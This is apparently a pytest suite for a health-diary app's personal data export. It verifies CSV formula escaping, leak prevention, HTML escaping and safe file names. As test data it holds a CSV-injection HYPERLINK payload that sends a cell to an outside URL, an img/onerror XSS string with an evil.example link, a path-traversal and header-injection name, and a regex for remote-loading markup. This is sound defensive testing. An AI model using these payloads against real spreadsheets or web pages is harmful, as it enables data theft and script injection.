"""What is in the ZIP: safe in a spreadsheet, silent about others, readable without a net."""

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import fastjsonschema
import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext

from symptoms.accounts.models import User
from symptoms.audit.models import Event
from symptoms.lib import clock
from symptoms.mydata import gathering
from symptoms.mydata.archive.tables import cell, write_table
from symptoms.mydata.gathering import TooMuch, gather
from symptoms.mydata.schema import schema
from symptoms.mydata.tables import ACCOUNT, TABLES
from tests.factories.cast import Cast
from tests.factories.diary import make_entry
from tests.mydata import rich
from tests.mydata.rich import zip_of

# Attack 38, and what else spreadsheets take for the beginning of a formula.
FORMULAS = (
    '=HYPERLINK("http://x?"&A1)',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\0=1",
    "\n=1",
    "  =1",
    "\ufeff=1",
    "\u00a0+1",
    "\uff1d1",
    "\uff0b1",
    "\t",
    "\r",
)
SAFE = ("", 'a"b', "1,5", "a=1", "'=1", "38.5", "über", "x\ny", "<b>")
REMOTE = re.compile(r"https?://|src=|href=|url\(|@import|<script|<link|<iframe|<object|<form|\son\w+=", re.I)


def opened(cast: Cast) -> zipfile.ZipFile:
    return zipfile.ZipFile(zip_of(patient=cast.ana_log, by=cast.ana))


def rows_of(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(f"tables/{name}.csv").decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cell(text, is_number=False) == f"'{text}"


@pytest.mark.parametrize("text", SAFE)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text, is_number=False) == text


@pytest.mark.parametrize(("value", "told"), [(-1, -1), ("-1.5", "-1.5"), (None, ""), (True, "yes"), (False, "no")])
def test_numbers_stay_numbers(value: Any, told: Any) -> None:
    assert cell(value, is_number=True) == told


def test_tables_are_as_rfc_4180_says() -> None:
    out = io.StringIO(newline="")
    write_table(out, ["n", "t"], [{"n": 1, "t": 'a"b,c\r\nd'}, {"n": 2, "t": "x"}], frozenset({"n"}))
    assert out.getvalue() == 'n,t\r\n1,"a""b,c\r\nd"\r\n2,x\r\n'


def test_a_formula_in_a_note_is_disarmed_and_the_json_keeps_it(cast: Cast) -> None:
    make_entry(cast.ana_log, {"headache": 2}, note='=HYPERLINK("http://x?"&A1)')
    archive = opened(cast)
    (entry,) = rows_of(archive, "entries")
    (report,) = rows_of(archive, "reports")
    assert entry["note"] == '\'=HYPERLINK("http://x?"&A1)'
    assert (entry["author"], report["grade"], report["symptom"]) == ("Ana", "2", "headache")
    assert json.loads(archive.read("diary.json"))["entries"][0]["note"] == '=HYPERLINK("http://x?"&A1)'


def test_it_holds_the_schema_and_keeps_to_it(cast: Cast) -> None:
    rich.fill(cast)
    archive = opened(cast)
    told = json.loads(archive.read("diary.schema.json"))
    assert told == schema()
    fastjsonschema.compile(told)(json.loads(archive.read("diary.json")))
    assert json.loads((Path(settings.BASE_DIR) / "docs" / "my-data.schema.json").read_text()) == told


def test_it_names_others_and_holds_no_address_of_theirs(cast: Cast) -> None:
    rich.fill(cast)
    User.objects.filter(pk=cast.sam.pk).update(name="sam.name@example.org")  # some type their address as a name
    Event.objects.create(verb="sharing.looked", actor=cast.okoye.uuid, patient=cast.ana_log.pk, data={"page": "x"})
    archive = opened(cast)
    text = "\n".join(archive.read(name).decode() for name in archive.namelist() if not name.endswith(".jpg"))
    addresses = set(re.findall(r"[\w.+-]+@[\w-]+\.[\w.]+", text))
    assert addresses == {rich.MAIL}
    assert "Dr Okoye" in text
    assert rows_of(archive, "who_looked")[-1]["who"] == "Dr Okoye"


def test_it_holds_no_secret_and_no_id_of_the_tracker(cast: Cast) -> None:
    rich.fill(cast)
    archive = opened(cast)
    text = "\n".join(archive.read(name).decode() for name in archive.namelist() if not name.endswith(".jpg"))
    keys = {str(key) for key in cast.ana_log.entry_set.values_list("idempotency_key", flat=True)}
    ids = set(re.findall(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", text))
    assert ids == keys
    for secret in ("ZQX-PUSH", cast.ana_log.calendarfeed_set.get().digest, cast.ana.password or "argon2"):
        assert secret not in text
    assert "what Sam did not save" not in text


def test_the_page_is_whole_by_itself(cast: Cast) -> None:
    rich.fill(cast)
    make_entry(cast.ana_log, {"headache": 1}, note="<img src=x onerror=alert(1)> {{ 7 }} http://evil.example/")
    page = opened(cast).read("read-me.html").decode()
    HTMLParser().feed(page)
    markup = re.sub(r">[^<]+<", "><", page)
    assert REMOTE.findall(markup) == []
    assert "&lt;img src=x onerror=alert(1)&gt; {{ 7 }}" in page
    assert rich.NOTE in page and "ZQX-ANSWER" in page and "Headache" in page
    assert "written by Sam" in page


def test_names_of_files_are_made_here_and_safe(cast: Cast) -> None:
    User.objects.filter(pk=cast.ana.pk).update(name='../../x"\r\nX: y')
    cast.ana.refresh_from_db()
    names = opened(cast).namelist()
    assert {"diary.json", "diary.schema.json", "read-me.html", "tables/entries.csv"} <= set(names)
    assert all(re.fullmatch(r"(tables/)?[a-z_-]+(\.[a-z]+){1,2}", name) for name in names)


def test_an_account_without_a_diary_has_its_own(cast: Cast) -> None:
    rich.fill(cast)
    archive = zipfile.ZipFile(zip_of(patient=None, by=cast.sam))
    said = json.loads(archive.read("diary.json"))
    assert {name for name in said if name in {table.name for table in TABLES}} == {
        table.name for table in TABLES if table.whose == ACCOUNT
    }
    text = "\n".join(archive.read(name).decode() for name in archive.namelist() if name != "diary.schema.json")
    assert rich.NOTE not in text and "ZQX-" not in text.replace(rich.NAME, "").replace("ZQX-NOTE", "ZQX-NOTE")
    assert said["shared_with_me"][0]["reads"]


def test_queries_do_not_grow_with_the_diary(cast: Cast) -> None:
    """One query a table, one for what was done, two for names: however many rows there are."""
    rich.fill(cast)

    def count() -> int:
        with CaptureQueriesContext(connection) as seen:
            gather(cast.ana, cast.ana_log, clock.now())
        return len(seen)

    before = count()
    assert before <= len(TABLES) + 3
    for _more in range(5):
        make_entry(cast.ana_log, {"headache": 1, "fatigue": 2}, note="more")
    assert count() == before


def test_more_than_fits_is_refused(cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    make_entry(cast.ana_log, {"headache": 1})
    monkeypatch.setattr(gathering, "MOST_ROWS", 1)
    with pytest.raises(TooMuch):
        zip_of(patient=cast.ana_log, by=cast.ana)


def test_a_download_is_written_down_without_what_is_in_it(cast: Cast) -> None:
    rich.fill(cast)
    zip_of(patient=cast.ana_log, by=cast.ana)
    event = Event.objects.get(verb="mydata.downloaded")
    assert (event.actor, event.patient, set(event.data)) == (cast.ana.uuid, cast.ana_log.pk, {"rows"})
